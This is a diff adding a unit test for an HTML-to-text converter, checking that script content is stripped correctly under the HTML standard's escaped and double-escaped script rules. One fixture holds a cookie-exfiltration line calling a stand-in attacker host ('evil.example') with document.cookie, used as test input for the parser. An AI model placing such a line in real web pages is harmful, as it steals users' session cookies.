@@ -20,6 +20,19 @@ describe('htmlToText', () => {
     expect(text).toBe('Hello');
   });
 
+  it("ends a script where the standard's escaped script states end it: a '</script>' written by the script inside '<!--' never ends it", () => {
+    const cell = (script: string) => htmlToText(`<table><tr><td>sessionid</td><td>Session${script}</td></tr></table>`);
+    const escaped = `<script><!--\ndocument.write('<script src="/t.js"></script>'); fetch('//evil.example/?c='+document.cookie);\n//--></script>`;
+    expect(cell(escaped)).toBe('sessionid\tSession');
+    expect(cell(`<SCRIPT><!--<Script>x</SCRIPT>y--></script>`)).toBe('sessionid\tSession');
+    // Outside an escape, or after a double escape ends and its escape with '-->', the first '</script>' still ends it.
+    expect(cell(`<script>'<!-'; '<script>'</script>a`)).toBe('sessionid\tSessiona');
+    expect(cell(`<script><!--<script>--></script>a`)).toBe('sessionid\tSessiona');
+    expect(cell(`<script><!--></script>a`)).toBe('sessionid\tSessiona');
+    // A script the standard never ends holds the rest of the page.
+    expect(htmlToText(`<p>a</p><script><!--<script></script><p>b</p>`)).toBe('a');
+  });
+
   it('keeps markup-looking text as text and decodes entities', () => {
     expect(htmlToText('<p>&lt;b&gt;x&lt;/b&gt; &amp; &#39;a&#x27; &eacute;t&eacute; &unknown;</p>')).toBe("<b>x</b> & 'a' été &unknown;");
   });
